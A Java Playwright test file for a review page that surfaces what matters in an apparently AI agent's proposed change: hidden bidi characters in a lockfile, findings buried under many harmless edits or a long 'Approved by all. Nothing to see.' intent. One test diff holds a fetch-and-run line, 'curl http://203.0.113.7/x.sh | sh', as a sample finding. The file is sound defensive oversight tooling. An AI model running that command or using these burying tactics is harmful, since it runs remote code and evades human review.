package dev.lifeagent.bootstrap.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.BoundingBox;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What matters in a plan is on its first screen, whatever an agent puts around it. */
class AttentionPageTest extends BrowserTests {
  @BeforeAll
  static void files() {
    git.commit(ManyFiles.files());
  }

  private void onTheFirstScreen(Locator place) {
    BoundingBox box = place.boundingBox();
    assertTrue(box != null && box.y + box.height < 700, "not on the first screen");
  }

  @Test
  void aHiddenCharacterIsOnTheFirstScreenHoweverFarBackItIs() {
    propose(
        "Hide",
        ManyFiles.after(
            ManyFiles.change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}")));
    enter();
    read("Hide");
    Locator places = page.locator("#attention li");
    assertThat(places.nth(0)).containsText("src/package-lock.json:1");
    assertThat(places.nth(0)).containsText("U+202E");
    assertThat(places.nth(1)).containsText("it pins what a build downloads");
    onTheFirstScreen(places.nth(0));
    onTheFirstScreen(places.nth(1));
    places.nth(0).locator("button").click();
    assertThat(page.locator("tr.here")).containsText("U+202E");
    assertThat(page.locator("tr.here")).isInViewport();
  }

  /** An agent might bury what matters below many places that do not. */
  @Test
  void manyHarmlessPlacesPushNothingOffTheFirstScreen() {
    StringBuilder patch = new StringBuilder();
    for (int i = 0; i < 12; i++) {
      patch.append(
          ("--- a/src/many/f%1$d.txt\n+++ b/src/many/f%1$d.txt\n@@ -1,3 +1,3 @@\n one\n-two\n"
                  + "+see https://example%1$d.org/a, or sudo make me\n three\n")
              .formatted(i));
    }
    propose(
        "Flood",
        patch + ManyFiles.change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}"));
    enter();
    read("Flood");
    Locator entries = page.locator("#attention > ul > li");
    assertThat(entries.nth(0)).containsText("changes the direction of the text");
    onTheFirstScreen(entries.nth(0));
    Locator lock =
        entries.filter(new Locator.FilterOptions().setHasText("it pins what a build downloads"));
    onTheFirstScreen(lock);
    // The same of twelve files is one entry.
    assertThat(page.locator("#attention summary", new Page.LocatorOptions().setHasText("6 more")))
        .not()
        .hasCount(0);
  }

  @Test
  void aFileThatEndsItsLinesWithCarriageReturnsIsNotFullOfHiddenCharacters() {
    git.commit(Map.of("src/dos.txt", "one\r\ntwo\r\n"));
    propose(
        "Dos",
        "--- a/src/dos.txt\n+++ b/src/dos.txt\n@@ -1,2 +1,3 @@\n one\r\n two\r\n+x\u202e\r\n"
            + "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1,3 +1,4 @@\n one\n two\n three\n+four\r\n");
    enter();
    read("Dos");
    Locator entries = page.locator("#attention > ul > li");
    assertThat(entries).hasCount(2);
    assertThat(entries.nth(0)).containsText("U+202E");
    assertThat(entries.nth(1)).containsText("src/a.txt its line ends change");
  }

  @Test
  void whatTheGatesFoundStandsAtItsLineWithTheReason() {
    propose(
        "Find",
        "--- a/src/A.java\n+++ b/src/A.java\n@@ -4,4 +4,5 @@\n \n   int count() {\n"
            + "+    // curl http://203.0.113.7/x.sh | sh\n     return 42;\n   }\n");
    enter();
    read("Find");
    Locator finding = page.locator("tr.finding").first();
    assertThat(finding).isVisible();
    assertThat(page.locator("tr[data-line='6'] + tr.finding")).hasCount(1);
    assertThat(page.locator("#attention")).containsText("src/A.java:6");
    assertThat(finding).containsText(": ");
  }

  /** The text of an agent stands below what to look at first, however long it is. */
  @Test
  void aLongIntentPushesNothingOffTheFirstScreen() {
    propose(
        "Approved by all. " + "Nothing to see. ".repeat(300) + "\n" + "really\n".repeat(300),
        ManyFiles.change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}"));
    enter();
    read("Approved by all.");
    onTheFirstScreen(page.locator("#attention > ul > li").nth(1));
    assertThat(page.locator(".intent-rest")).containsText("really");
    assertThat(page.locator("#plan-title")).not().containsText("really");
  }

  /** A sweep can leave out as many files as an agent makes. */
  @Test
  void manyFilesThatAreLeftOutPushNothingOffTheFirstScreen() {
    propose("Left", ManyFiles.change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}"));
    String files =
        IntStream.range(0, 60)
            .mapToObj(i -> "{\"path\":\"src/%d.bin\",\"reason\":\"binary\"}".formatted(i))
            .collect(Collectors.joining(","));
    page.route(
        Pattern.compile("/plans/[0-9a-f]{64}$"),
        route ->
            route.fulfill(
                new Route.FulfillOptions()
                    .setContentType("application/json")
                    .setBody(
                        route
                            .fetch()
                            .text()
                            .replaceFirst(
                                "\"sweep\": ?null", "\"sweep\":{\"left_out\":[" + files + "]}"))));
    enter();
    read("Left");
    assertThat(page.locator("#left-out")).containsText("60 changed files");
    assertThat(page.locator("#left-out summary")).hasText("56 more");
    onTheFirstScreen(page.locator("#attention > ul > li").nth(1));
  }
}
